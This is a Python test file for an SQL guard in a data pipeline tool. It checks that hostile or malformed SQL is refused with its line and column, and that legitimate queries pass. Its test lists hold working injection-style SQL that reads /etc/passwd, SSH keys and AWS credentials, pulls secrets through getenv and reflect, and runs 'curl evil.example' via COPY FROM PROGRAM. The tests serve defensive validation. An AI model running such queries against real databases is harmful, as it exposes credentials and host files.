"""What user SQL may read: a corpus of hostile and malformed SQL jobs, where clauses and
CustomSql statements, each refused at its line:column, and legitimate SQL that still runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from sluice.errors import ConfigError, DQDLSyntaxError
from sluice.project.graph import sql_inputs
from sluice.project.sqlguard import vet_custom_sql, vet_predicate, vet_query
from sluice.quality.dqdl.parser import parse_ruleset
from sluice.quality.sqlexpr import sql_errors

RETAIL = Path(__file__).resolve().parents[2] / "examples" / "retail"

# (sql, dialect, refusal text, line, column) for SQL jobs
JOBS = [
    # files, the network, other databases
    ("SELECT * FROM read_text('/etc/passwd')", "duckdb", "read_text()", 1, 15),
    ("SELECT * FROM read_blob('/etc/shadow')", "duckdb", "read_blob()", 1, 15),
    ("SELECT *\nFROM read_csv('/home/u/.aws/credentials')", "duckdb", "read_csv()", 2, 6),
    ("SELECT * FROM read_csv_auto('x.csv')", "duckdb", "read_csv_auto()", 1, 15),
    ("SELECT * FROM read_json('/tmp/x.json')", "duckdb", "read_json()", 1, 15),
    ("SELECT * FROM read_json_auto('x')", "duckdb", "read_json_auto()", 1, 15),
    ("SELECT * FROM read_ndjson_objects('x')", "duckdb", "read_ndjson_objects()", 1, 15),
    ("SELECT * FROM read_parquet('s3://bucket/secret/*.parquet')", "duckdb", "read_parquet()",
     1, 15),
    ("SELECT * FROM parquet_scan('x.parquet')", "duckdb", "parquet_scan()", 1, 15),
    ("SELECT * FROM parquet_metadata('x.parquet')", "duckdb", "parquet_metadata()", 1, 15),
    ("SELECT * FROM glob('/home/*')", "duckdb", "glob()", 1, 15),
    ("SELECT * FROM sniff_csv('/etc/hosts')", "duckdb", "sniff_csv()", 1, 15),
    ("SELECT * FROM iceberg_scan('s3://b/t')", "duckdb", "iceberg_scan()", 1, 15),
    ("SELECT * FROM delta_scan('s3://b/t')", "duckdb", "delta_scan()", 1, 15),
    ("SELECT * FROM sqlite_scan('other.db', 't')", "duckdb", "sqlite_scan()", 1, 15),
    ("SELECT * FROM postgres_scan('host=db', 'public', 't')", "duckdb", "postgres_scan()",
     1, 15),
    ("SELECT * FROM main.read_text('/etc/passwd')", "duckdb", "read_text()", 1, 20),
    ("SELECT * FROM raw.orders, LATERAL read_text(raw.orders.path)", "duckdb", "read_text()",
     1, 35),
    ("SELECT o.*\nFROM raw.orders o\n  JOIN read_csv('https://evil.example/x.csv') r ON true",
     "duckdb", "read_csv()", 3, 8),
    ("SELECT (SELECT content FROM read_text('/etc/passwd')) AS x", "duckdb", "read_text()",
     1, 29),
    ("SELECT * FROM raw.orders WHERE order_id IN (SELECT 1 FROM read_csv('/x'))", "duckdb",
     "read_csv()", 1, 59),
    ("WITH leak AS (SELECT * FROM read_text('/etc/passwd'))\nSELECT * FROM leak", "duckdb",
     "read_text()", 1, 29),
    ("SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')", "duckdb", "query()",
     1, 15),
    ("SELECT * FROM query_table('secret')", "duckdb", "query_table()", 1, 15),
    ("SELECT * FROM duckdb_secrets()", "duckdb", "duckdb_secrets()", 1, 15),
    ("SELECT * FROM duckdb_settings()", "duckdb", "duckdb_settings()", 1, 15),
    ("SELECT * FROM pragma_table_info('raw.orders')", "duckdb", "pragma_table_info()", 1, 15),
    ("SELECT getenv('AWS_SECRET_ACCESS_KEY') AS k", "duckdb", "getenv()", 1, 8),
    ("SELECT current_setting('s3_secret_access_key') AS k", "duckdb", "current_setting()",
     1, 8),
    # string literals and paths used as table names (DuckDB replacement scans)
    ("SELECT * FROM '/etc/passwd'", "duckdb", "'/etc/passwd' is a file path", 1, 15),
    ("SELECT * FROM 'orders.csv'", "duckdb", "'orders.csv' is a file path", 1, 15),
    ('SELECT * FROM "data.parquet"', "duckdb", "'data.parquet' is a file path", 1, 15),
    ("FROM 'https://evil.example/x.csv'", "duckdb", "file path or URL", 1, 6),
    ("SELECT * FROM raw.orders\nUNION ALL SELECT * FROM '~/.ssh/id_rsa'", "duckdb",
     "file path or URL", 2, 25),
    # statements that are not one SELECT
    ("ATTACH 'other.duckdb' AS other", "duckdb", "one SELECT statement, not ATTACH", 1, 1),
    ("COPY raw.orders TO '/tmp/out.csv'", "duckdb", "one SELECT statement, not COPY", 1, 1),
    ("INSTALL httpfs", "duckdb", "one SELECT statement", 1, 1),
    ("LOAD httpfs", "duckdb", "one SELECT statement", 1, 1),
    ("PRAGMA database_list", "duckdb", "one SELECT statement", 1, 1),
    ("SET enable_external_access = true", "duckdb", "one SELECT statement", 1, 1),
    ("SELECT 1 AS x; SELECT * FROM read_text('/etc/passwd')", "duckdb", "found 2 statements",
     1, 14),
    ("SELECT * FROM raw.orders;\nDROP TABLE raw.orders", "duckdb", "found 2 statements", 1, 25),
    ("INSERT INTO raw.orders SELECT * FROM raw.orders", "duckdb", "one SELECT statement", 1, 1),
    ("", "duckdb", "is empty", 1, 1),
    ("-- nothing but a comment\n", "duckdb", "is empty", 1, 1),
    # SQL that sqlglot would silently repair
    ("SELECT order_id,, FROM raw.orders", "duckdb", "does not parse", 1, 17),
    ("SELECT order_id\nFROM raw.orders\nWHERE amount = = 1", "duckdb", "does not parse", 3, 16),
    ("SELECT * FROM raw.orders o LEFT JOIN raw.customers c", "duckdb", "does not parse", 1, 52),
    ("SELECT 'unterminated FROM raw.orders", "duckdb", "unterminated", 1, 8),
    ("SELECT order_id,, FROM raw.orders", "spark", "nothing between two ','", 1, 16),
    ("SELECT order_id, FROM raw.orders", "spark", "nothing after ','", 1, 16),
    ("SELECT * FROM raw.orders WHERE order_id IN (1,,2)", "postgres", "nothing between", 1, 46),
    ("SELECT count(order_id,) FROM raw.orders", "postgres", "nothing after ','", 1, 22),
    ("SELECT * FROM raw.orders o JOIN raw.customers c ON", "spark", "ON without a join", 1, 49),
    ("SELECT * FROM raw.orders o JOIN raw.customers c ON\nWHERE 1 = 1", "postgres",
     "ON without a join", 1, 49),
    ("SELECT ((((((((((((((((((((((((1", "duckdb", "does not parse", 1, 32),
    # PostgreSQL
    ("SELECT pg_read_file('/etc/passwd') AS x", "postgres", "pg_read_file()", 1, 8),
    ("SELECT pg_read_binary_file('/etc/passwd') AS x", "postgres", "pg_read_binary_file()",
     1, 8),
    ("SELECT * FROM pg_ls_dir('/')", "postgres", "pg_ls_dir()", 1, 15),
    ("SELECT lo_import('/etc/passwd') AS x", "postgres", "lo_import()", 1, 8),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "postgres", "dblink()", 1, 15),
    ("SELECT query_to_xml('SELECT * FROM secret', true, true, '') AS x", "postgres",
     "query_to_xml()", 1, 8),
    ("WITH gone AS (DELETE FROM raw.orders RETURNING *) SELECT * FROM gone", "postgres",
     "DELETE is not allowed", 1, 27),
    ("COPY raw.orders FROM PROGRAM 'curl evil.example'", "postgres", "one SELECT statement",
     1, 1),
    # Spark SQL
    ("SELECT * FROM csv.`/etc/passwd`", "spark", "file path or URL", 1, 15),
    ("SELECT * FROM parquet.`s3://bucket/secret`", "spark", "file path or URL", 1, 15),
    ("SELECT reflect('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY') AS k", "spark",
     "reflect()", 1, 8),
    ("SELECT java_method('java.lang.System', 'getProperty', 'user.home') AS k", "spark",
     "java_method()", 1, 8),
    ("SELECT TRANSFORM(order_id) USING 'cat /etc/passwd' AS (x) FROM raw.orders", "spark",
     "is not allowed here", 1, 18),
    ("SELECT * FROM read_files('s3://bucket/')", "spark", "read_files()", 1, 15),
]


@pytest.mark.parametrize(("sql", "dialect", "text", "line", "column"), JOBS,
                         ids=[f"{d}:{s[:50]}" for s, d, *_ in JOBS])
def test_a_hostile_or_malformed_job_is_refused_at_its_position(
    sql: str, dialect: str, text: str, line: int, column: int
) -> None:
    vetted = vet_query(sql, dialect)
    assert vetted.refusals, f"not refused: {sql!r}"
    first = vetted.refusals[0]
    assert text in first.message
    assert (first.line, first.column) == (line, column), first
    assert first.tip
    with pytest.raises(ConfigError) as caught:
        sql_inputs(sql, dialect, where="jobs/x.sql")
    assert caught.value.message.startswith(f"jobs/x.sql:{line}:{column}: ")


def test_file_reads_say_what_to_do() -> None:
    refusal = vet_query("SELECT * FROM read_text('/etc/passwd')", "duckdb").refusals[0]
    assert "declare the data as a source in sluice.yaml" in refusal.tip


# (rule, refusal text, column of the SQL or None) for DQDL where clauses and CustomSql
RULES = [
    ('RowCount > 0 where "x > 1; DROP TABLE t"', "one expression, found 2 statements"),
    ('IsComplete "a" where "a = 1 b"', "'b' follows it"),
    ('IsComplete "a" where "a > "', "does not parse"),
    ('IsComplete "a" where ""', "is empty"),
    ('IsComplete "a" where "a IN (1,,2)"', "nothing between two ','"),
    ('IsComplete "a" where "a IN (SELECT id FROM raw.orders)"', "cannot read a table"),
    ('IsComplete "a" where "length(reflect(\'java.lang.System\', \'getenv\', \'HOME\')) > 0"',
     "reflect()"),
    ('IsComplete "a" where "a > (SELECT max(x) FROM read_csv(\'/etc/passwd\'))"',
     "read_csv()"),
    ('IsComplete "a" where "DROP TABLE t"', "one expression, not DROP"),
    ('ColumnValues "a" > 0 where "pg_read_file(\'/etc/passwd\') IS NOT NULL"',
     "pg_read_file()"),
    ('CustomSql "select count(*) from read_text(\'/etc/passwd\')" > 0', "read_text()"),
    ('CustomSql "select count(*) from `/etc/passwd`" > 0', "file path or URL"),
    ('CustomSql "select count(*) from csv.`/etc/passwd`" > 0', "file path or URL"),
    ('CustomSql "select count(*) from database.secret" > 0', "may read only primary"),
    ('CustomSql "select count(*) from primary; drop table primary" > 0', "found 2 statements"),
    ('CustomSql "delete from primary" > 0', "one SELECT statement"),
    ('CustomSql "select count(*),, from primary" > 0', "nothing between two ','"),
    ('CustomSql "select count(*) from primary p join ref r on" > 0', "ON without a join"),
    ('CustomSql "select reflect(\'java.lang.Runtime\', \'getRuntime\')" = 0', "reflect()"),
    ('DetectAnomalies "CustomSql" "select count(*) from read_parquet(\'s3://b/x\')"',
     "read_parquet()"),
    ('RowCount > 0 where "input_file_name() = \'x\' or dblink(\'h\', \'q\') is null"',
     "dblink()"),
]


@pytest.mark.parametrize(("rule", "text"), RULES, ids=[r[:60] for r, _ in RULES])
def test_a_hostile_or_malformed_rule_is_refused_at_the_rule(rule: str, text: str) -> None:
    document = f"# gate\nRules = [\n    RowCount > 0,\n    {rule}\n]\n"
    try:
        ruleset = parse_ruleset(document, source="quality/x.dqdl")
    except DQDLSyntaxError as exc:
        # the DQDL parser may refuse SQL that cannot be one statement before sqlguard sees it
        assert str(exc.location) == "quality/x.dqdl:4:5"
        return
    errors = sql_errors(ruleset)
    assert len(errors) == 1, [e.message for e in errors]
    error = errors[0]
    assert text in error.reason
    assert str(error.location) == "quality/x.dqdl:4:5"
    assert error.message.startswith("quality/x.dqdl:4:5: ")


def test_an_analyzer_where_clause_is_vetted_too() -> None:
    ruleset = parse_ruleset('Analyzers = [\n  RowCount where "getenv(\'HOME\') = \'x\'"\n]',
                            source="a.dqdl")
    assert [str(e.location) for e in sql_errors(ruleset)] == ["a.dqdl:2:3"]


def test_a_refused_where_clause_is_an_error_of_its_rule_when_evaluated(tmp_path: Path) -> None:
    from sluice.engines.base import DataRef
    from sluice.quality import evaluate
    from sluice.quality.results import Outcome

    data = tmp_path / "d.csv"
    data.write_text("a\n1\n2\n", encoding="utf-8")
    ruleset = parse_ruleset('Rules = [ RowCount > 0 where "getenv(\'HOME\') = \'x\'",\n'
                            ' CustomSql "select count(*) from read_text(\'/etc/passwd\')" > 0 ]',
                            source="q.dqdl")
    result = evaluate(ruleset, DataRef(str(data), "csv"))
    assert [r.outcome for r in result.results] == [Outcome.ERROR, Outcome.ERROR]
    assert "getenv()" in result.results[0].message
    assert "read_text()" in result.results[1].message


LEGITIMATE = [
    ("SELECT a FROM raw.orders", "duckdb", ["raw.orders"]),
    ("FROM raw.orders SELECT order_id", "duckdb", ["raw.orders"]),
    ("FROM raw.orders", "duckdb", ["raw.orders"]),
    ("SELECT order_id, FROM raw.orders", "duckdb", ["raw.orders"]),  # DuckDB accepts it
    ("SELECT 1 AS x;", "duckdb", []),
    ("WITH o AS (SELECT * FROM raw.orders), c AS (SELECT * FROM o) SELECT * FROM c",
     "duckdb", ["raw.orders"]),
    ("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) "
     "SELECT * FROM n", "duckdb", []),
    ("SELECT o.*, c.name FROM raw.orders o JOIN raw.customers c USING (customer_id)",
     "duckdb", ["raw.orders", "raw.customers"]),
    ("SELECT *, row_number() OVER (PARTITION BY customer_id ORDER BY ordered_at) AS n "
     "FROM raw.orders QUALIFY n = 1", "duckdb", ["raw.orders"]),
    ("SELECT list_transform([1, 2], x -> x + 1) AS l, {'a': 1}.a AS s, 1::BIGINT AS b",
     "duckdb", []),
    ("SELECT * FROM range(3) r, unnest([1, 2]) u", "duckdb", []),
    ("SELECT * FROM raw.orders WHERE status GLOB 'a*' AND pg_typeof(order_id) = 'BIGINT'",
     "duckdb", ["raw.orders"]),
    ("SELECT 'a/b.csv' AS path, regexp_matches(status, '^x$') AS m FROM raw.orders",
     "duckdb", ["raw.orders"]),
    ("SELECT * FROM generate_series(1, 3)", "postgres", []),
    ("SELECT o.a FROM raw.orders o LATERAL VIEW explode(array(1, 2)) t AS x", "spark",
     ["raw.orders"]),
    ("SELECT * FROM raw.orders o LEFT JOIN raw.customers c ON o.customer_id = c.id",
     "spark", ["raw.orders", "raw.customers"]),
]


@pytest.mark.parametrize(("sql", "dialect", "tables"), LEGITIMATE,
                         ids=[s[:50] for s, *_ in LEGITIMATE])
def test_legitimate_sql_is_accepted(sql: str, dialect: str, tables: list[str]) -> None:
    vetted = vet_query(sql, dialect)
    assert vetted.refusals == []
    assert [t.name for t in vetted.tables] == tables


def test_cte_names_are_resolved_by_scope() -> None:
    # a CTE only covers the query it belongs to, and a CTE's body sees only earlier CTEs:
    # the other names are tables, which must then be declared
    inner = vet_query("SELECT * FROM (WITH p AS (SELECT 1) SELECT * FROM p) s, p", "duckdb")
    assert [t.name for t in inner.tables] == ["p"]
    later = vet_query("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "duckdb")
    assert [t.name for t in later.tables] == ["b"]


def test_the_examples_pass() -> None:
    for sql in sorted((RETAIL / "jobs").glob("*.sql")):
        text = sql.read_text(encoding="utf-8").replace("${min_amount}", "0")
        assert vet_query(text, "duckdb").refusals == [], sql.name
    for rules in sorted((RETAIL / "quality").glob("*.dqdl")):
        assert sql_errors(parse_ruleset(rules.read_text(encoding="utf-8"))) == []


@pytest.mark.parametrize("where", [
    "amount > 3", "customer in ('c1', 'c3')", "name like 'A%' or name like 'B%'",
    "colD != Concat(colE, colF)", "updated_at is not null and active", "id % 10 <> 0",
])
def test_legitimate_where_clauses_are_accepted(where: str) -> None:
    assert vet_predicate(where, "spark").refusals == []


def test_custom_sql_reads_primary_and_references() -> None:
    vetted = vet_custom_sql(
        "with big as (select * from primary where amount > 3) "
        "select count(*) from big join ref r on big.customer = r.customer", "spark")
    assert vetted.refusals == []
    assert [t.name for t in vetted.tables] == ["ref", "primary"]
